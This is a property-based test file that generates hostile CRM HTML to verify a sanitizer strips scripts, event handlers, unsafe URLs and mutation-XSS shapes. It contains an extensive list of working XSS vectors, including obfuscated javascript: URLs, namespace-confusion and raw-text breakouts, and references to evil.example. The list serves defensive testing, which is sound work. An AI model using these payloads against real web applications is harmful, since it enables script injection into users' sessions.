/**
 * Generated hostile CRM HTML through the one sanitizer (docs/behaviour.md "Safe links and CRM
 * HTML"). Each document is built from real attack shapes: disallowed and dangerous elements,
 * event handlers, style, URL attributes with script schemes in many spellings, mutation-XSS
 * shapes (namespace confusion, raw-text elements, broken nesting) and known vectors.
 *
 * The sanitized output is inserted into a jsdom document (the test environment runs inline event
 * handlers), parsed a second time from its own serialisation (mutation XSS changes the tree on
 * re-parse), and then:
 *
 * - holds only the allowlisted elements (so no script, style, form, iframe, svg, math…);
 * - holds only the attributes `href`, `title`, `target`, `rel` (so no event handler, no style);
 * - every `href` is https:, loopback http:, mailto: or tel: (so no javascript: or data:);
 * - every link opens in a new tab with `rel="noopener noreferrer"`;
 * - nothing runs: every element receives every common event, and no payload's canary fires.
 */
import fc from 'fast-check';
import { SANITIZER_TAGS } from '@test-support/sanitizer-output';
import { sanitizeHtml } from '../../../src/components/sanitized-html';

const ALLOWED_ATTRIBUTES = new Set( [ 'href', 'title', 'target', 'rel' ] );
const LOOPBACK = new Set( [ 'localhost', '127.0.0.1', '[::1]' ] );

/** A payload sets this flag when it runs. */
const CANARY = '__caPwned';
const PAYLOAD = `window.${ CANARY }=1`;

declare global {
	interface Window {
		[ CANARY ]?: number;
	}
}

/** Events every element receives after insertion. */
const EVENTS = [
	'click',
	'dblclick',
	'auxclick',
	'contextmenu',
	'mousedown',
	'mouseup',
	'mouseover',
	'mouseenter',
	'mousemove',
	'pointerdown',
	'pointerover',
	'focus',
	'focusin',
	'blur',
	'keydown',
	'keypress',
	'input',
	'change',
	'submit',
	'load',
	'error',
	'toggle',
	'animationstart',
	'animationend',
	'transitionend',
	'scroll',
	'wheel',
	'copy',
	'paste',
	'beforeprint',
];

const TAG = fc.constantFrom(
	// allowed
	'p',
	'span',
	'a',
	'b',
	'strong',
	'em',
	'ul',
	'li',
	'h3',
	'br',
	// dangerous or not allowed
	'script',
	'style',
	'iframe',
	'frame',
	'object',
	'embed',
	'form',
	'input',
	'button',
	'textarea',
	'select',
	'option',
	'img',
	'video',
	'audio',
	'source',
	'svg',
	'math',
	'mtext',
	'mglyph',
	'malignmark',
	'foreignObject',
	'animate',
	'set',
	'use',
	'image',
	'base',
	'meta',
	'link',
	'template',
	'noscript',
	'noembed',
	'noframes',
	'xmp',
	'plaintext',
	'title',
	'table',
	'details',
	'dialog',
	'marquee',
	'isindex',
	'applet',
	'body',
	'html',
	'head',
	'slot',
	'portal'
);

const ATTRIBUTE_NAME = fc.constantFrom(
	'onclick',
	'onerror',
	'onload',
	'onmouseover',
	'onfocus',
	'onanimationstart',
	'ontoggle',
	'OnClIcK',
	'onbegin',
	'style',
	'href',
	'HREF',
	'src',
	'srcdoc',
	'srcset',
	'action',
	'formaction',
	'xlink:href',
	'data',
	'background',
	'poster',
	'ping',
	'target',
	'rel',
	'title',
	'id',
	'name',
	'class',
	'is',
	'autofocus',
	'open',
	'attributeName',
	'values',
	'to',
	'from',
	'xmlns',
	'http-equiv',
	'content'
);

const SCRIPT_URL = fc.constantFrom(
	`javascript:${ PAYLOAD }`,
	`JaVaScRiPt:${ PAYLOAD }`,
	` javascript:${ PAYLOAD }`,
	`java\tscript:${ PAYLOAD }`,
	`java\nscript:${ PAYLOAD }`,
	`java&#x09;script:${ PAYLOAD }`,
	`&#106;avascript:${ PAYLOAD }`,
	`&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${ PAYLOAD }`,
	`javascript&colon;${ PAYLOAD }`,
	`\u0000javascript:${ PAYLOAD }`,
	`data:text/html,<script>${ PAYLOAD }</script>`,
	'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19jYVB3bmVkPTE8L3NjcmlwdD4=',
	`vbscript:${ PAYLOAD }`,
	'//evil.example/x',
	'http://evil.example/x',
	'https://user:pw@evil.example/',
	'https://files.example/doc.pdf',
	'http://localhost:8081/media/1',
	'mailto:info@broker.example',
	'tel:+49301234',
	`expression(${ PAYLOAD })`,
	`url(javascript:${ PAYLOAD })`,
	`background:url("javascript:${ PAYLOAD }")`,
	`-moz-binding:url(https://evil.example/x.xml#x)`,
	PAYLOAD,
	`alert(1)//"><img src=x onerror=${ PAYLOAD }>`
);

const ATTRIBUTE_VALUE = fc.oneof(
	{ weight: 3, arbitrary: SCRIPT_URL },
	{ weight: 1, arbitrary: fc.string( { maxLength: 12 } ) }
);

const QUOTE = fc.constantFrom( '"', "'", '', '`' );

const ATTRIBUTE = fc
	.tuple( ATTRIBUTE_NAME, ATTRIBUTE_VALUE, QUOTE )
	.map( ( [ name, value, quote ] ) => {
		const escaped =
			quote === '"'
				? value.replace( /"/g, '&quot;' )
				: value.replace( /[\s>]/g, '' );
		return ` ${ name }=${ quote }${ escaped }${ quote }`;
	} );

/** Known vectors, most of them mutation XSS against HTML sanitizers. */
const KNOWN_VECTOR = fc.constantFrom(
	`<img src=x onerror="${ PAYLOAD }">`,
	`<svg onload="${ PAYLOAD }">`,
	`<svg><script>${ PAYLOAD }</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${ PAYLOAD }">`,
	`<svg></p><style><a id="</style><img src=1 onerror=${ PAYLOAD }>">`,
	`<math><mi><table><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror=${ PAYLOAD }>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ PAYLOAD }>`,
	`<noscript><p title="</noscript><img src=x onerror=${ PAYLOAD }>">`,
	`<xmp><p title="</xmp><img src=x onerror=${ PAYLOAD }>">`,
	`<noembed><img title="</noembed><img src onerror=${ PAYLOAD }>"></noembed>`,
	`<template><img src=x onerror=${ PAYLOAD }></template>`,
	`<a href="javascript:${ PAYLOAD }">x</a>`,
	`<a href="jav&#x09;ascript:${ PAYLOAD }">x</a>`,
	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${ PAYLOAD }">x</a>`,
	`<a href=" &#14;  javascript:${ PAYLOAD }">x</a>`,
	`<a href="data:text/html,%3Cscript%3E${ PAYLOAD }%3C/script%3E">x</a>`,
	`<a xlink:href="javascript:${ PAYLOAD }">x</a>`,
	`<svg><a xlink:href="javascript:${ PAYLOAD }"><text>x</text></a></svg>`,
	`<svg><animate onbegin="${ PAYLOAD }" attributeName=x dur=1s>`,
	`<svg><set attributeName="href" to="javascript:${ PAYLOAD }"/></svg>`,
	`<details open ontoggle="${ PAYLOAD }">`,
	`<iframe srcdoc="<script>${ PAYLOAD }</script>"></iframe>`,
	`<iframe src="javascript:${ PAYLOAD }"></iframe>`,
	`<object data="javascript:${ PAYLOAD }"></object>`,
	`<embed src="data:text/html,<script>${ PAYLOAD }</script>">`,
	`<form action="javascript:${ PAYLOAD }"><button>x</button></form>`,
	`<button formaction="javascript:${ PAYLOAD }">x</button>`,
	`<input autofocus onfocus="${ PAYLOAD }">`,
	`<base href="javascript:${ PAYLOAD }//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${ PAYLOAD }">`,
	`<link rel="stylesheet" href="javascript:${ PAYLOAD }">`,
	`<style>@import "javascript:${ PAYLOAD }";</style>`,
	`<p style="background:url(javascript:${ PAYLOAD })">x</p>`,
	`<span style="x:expression(${ PAYLOAD })">x</span>`,
	`<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
	`<marquee onstart="${ PAYLOAD }">x</marquee>`,
	`<video><source onerror="${ PAYLOAD }"></video>`,
	`<body onload="${ PAYLOAD }">`,
	`<!--<img src="--><img src=x onerror=${ PAYLOAD }//">`,
	`<![CDATA[<img src=x onerror=${ PAYLOAD }>]]>`,
	`<a id=x tabindex=1 onfocusin=${ PAYLOAD }></a>`,
	`<p/onclick=${ PAYLOAD }>x</p>`,
	`<p onclick\u000c=${ PAYLOAD }>x</p>`,
	`<scr<script>ipt>${ PAYLOAD }</scr</script>ipt>`,
	`<a href="https://files.example/" onmouseover="${ PAYLOAD }">ok</a>`,
	`<a href="javas\u0000cript:${ PAYLOAD }">x</a>`,
	`<a href="\u2028javascript:${ PAYLOAD }">x</a>`,
	`<plaintext><img src=x onerror=${ PAYLOAD }>`,
	`<isindex action="javascript:${ PAYLOAD }" type=image>`,
	`<img src="x" id="cookie" name="getElementById">`,
	`<a is="x" href="https://files.example/" target="_self" rel="opener">x</a>`
);

const TEXT = fc.oneof(
	fc.string( { maxLength: 20 } ),
	fc.constantFrom(
		'&lt;script&gt;',
		'&amp;lt;img src=x onerror=1&amp;gt;',
		'<',
		'>',
		'"',
		"'",
		'</',
		'<!--',
		'-->',
		'<!',
		'<?xml ?>',
		'\u202eRTL',
		'שלום',
		'ÄÖÜß'
	)
);

const LEAF = fc.oneof(
	{ weight: 2, arbitrary: KNOWN_VECTOR },
	{ weight: 2, arbitrary: TEXT }
);

/** A hostile fragment: elements with hostile attributes around more fragments, up to 3 deep. */
const { fragment: FRAGMENT } = fc.letrec< { fragment: string } >( ( tie ) => ( {
	fragment: fc.oneof(
		{ depthSize: 'small', withCrossShrink: true },
		LEAF,
		fc
			.tuple(
				TAG,
				fc.array( ATTRIBUTE, { maxLength: 4 } ),
				fc.array( tie( 'fragment' ), { maxLength: 3 } ),
				fc.constantFrom( 'close', 'open', 'self', 'wrong' )
			)
			.map( ( [ tag, attributes, children, ending ] ) => {
				const open = `<${ tag }${ attributes.join( '' ) }`;
				const inner = children.join( '' );
				if ( ending === 'self' ) {
					return `${ open }/>${ inner }`;
				}
				if ( ending === 'open' ) {
					return `${ open }>${ inner }`;
				}
				if ( ending === 'wrong' ) {
					return `${ open }>${ inner }</p></${ tag }`;
				}
				return `${ open }>${ inner }</${ tag }>`;
			} )
	),
} ) );

const DOCUMENT = fc
	.array( FRAGMENT, { minLength: 1, maxLength: 6 } )
	.map( ( parts ) => parts.join( '' ) );

/**
 * What is wrong with a sanitized tree: one line per finding, empty when nothing is.
 *
 * @param root The element holding the sanitized HTML.
 */
function findings( root: Element ): string[] {
	const found: string[] = [];
	for ( const element of Array.from( root.querySelectorAll( '*' ) ) ) {
		if ( ! SANITIZER_TAGS.has( element.tagName ) ) {
			found.push( `element <${ element.tagName.toLowerCase() }>` );
		}
		for ( const attribute of Array.from( element.attributes ) ) {
			// DOMPurify empties an `is` attribute instead of removing it (some browsers cannot
			// remove it); an empty `is` names no custom element and does nothing.
			const voidedIs = attribute.name === 'is' && attribute.value === '';
			if ( ! ALLOWED_ATTRIBUTES.has( attribute.name ) && ! voidedIs ) {
				found.push(
					`attribute ${ attribute.name } on <${ element.tagName.toLowerCase() }>`
				);
			}
		}
		const href = element.getAttribute( 'href' );
		if ( href !== null && ! safeHref( href ) ) {
			found.push( `href ${ JSON.stringify( href ) }` );
		}
		if ( element.tagName === 'A' ) {
			if ( element.getAttribute( 'target' ) !== '_blank' ) {
				found.push( 'a link without target="_blank"' );
			}
			if ( element.getAttribute( 'rel' ) !== 'noopener noreferrer' ) {
				found.push( 'a link without rel="noopener noreferrer"' );
			}
		}
	}
	return found;
}

/**
 * Whether a link target left in the output is one the rule allows.
 *
 * @param href The attribute value.
 */
function safeHref( href: string ): boolean {
	let url: URL;
	try {
		url = new URL( href );
	} catch {
		return false;
	}
	if ( url.protocol === 'mailto:' || url.protocol === 'tel:' ) {
		return true;
	}
	if ( url.username !== '' || url.password !== '' ) {
		return false;
	}
	return (
		url.protocol === 'https:' ||
		( url.protocol === 'http:' && LOOPBACK.has( url.hostname ) )
	);
}

/**
 * Fires every common event at every element below the root.
 *
 * @param root The element holding the HTML.
 */
function provoke( root: Element ): void {
	for ( const element of [
		root,
		...Array.from( root.querySelectorAll( '*' ) ),
	] ) {
		for ( const type of EVENTS ) {
			element.dispatchEvent( new Event( type, { bubbles: true } ) );
		}
	}
}

/**
 * Inserts HTML into a fresh element of the test document and provokes it.
 *
 * @param html HTML to insert.
 */
function insert( html: string ): HTMLElement {
	const root = document.createElement( 'div' );
	document.body.append( root );
	root.innerHTML = html;
	provoke( root );
	return root;
}

// Navigation by a javascript: link is not implemented by jsdom; href values are checked instead.
const noNavigationNoise = () =>
	jest.spyOn( console, 'error' ).mockImplementation( () => undefined );

beforeEach( () => {
	delete window[ CANARY ];
	document.body.replaceChildren();
} );

describe( 'the detector', () => {
	it( 'sees a payload run and finds hostile markup in unsanitized HTML', () => {
		noNavigationNoise();
		const root = insert(
			`<p onclick="${ PAYLOAD }">x</p><a href="javascript:${ PAYLOAD }">y</a>`
		);
		expect( window[ CANARY ] ).toBe( 1 );
		expect( findings( root ) ).toEqual(
			expect.arrayContaining( [
				'attribute onclick on <p>',
				expect.stringMatching( /^href "javascript:/ ),
			] )
		);
	} );
} );

const RUNS = 600;

describe( `generated CRM HTML through the sanitizer: ${ RUNS } documents`, () => {
	it( 'lets nothing through that can run script, style, frame or post a form', () => {
		noNavigationNoise();
		// The raw documents are parsed in an inert document (no scripts, its own base URL), only
		// to prove that the generator really produces hostile markup.
		const inert = document.implementation.createHTMLDocument( '' );
		let hostileInputs = 0;
		fc.assert(
			fc.property( DOCUMENT, ( hostile ) => {
				inert.body.innerHTML = hostile;
				if ( findings( inert.body ).length > 0 ) {
					hostileInputs++;
				}
				delete window[ CANARY ];
				document.body.replaceChildren();
				const clean = sanitizeHtml( hostile );
				const first = insert( clean );
				// Mutation XSS shows when the serialised output parses into another tree.
				const second = insert( first.innerHTML );
				const problems = [
					...findings( first ),
					...findings( second ),
				];
				if ( window[ CANARY ] !== undefined ) {
					problems.push( 'a payload ran' );
				}
				if ( problems.length > 0 ) {
					throw new Error(
						`${ problems.join( '; ' ) }\noutput: ${ clean }`
					);
				}
			} ),
			{ numRuns: RUNS, seed: 20261124 }
		);
		expect( hostileInputs ).toBeGreaterThan( RUNS * 0.9 );
	} );
} );
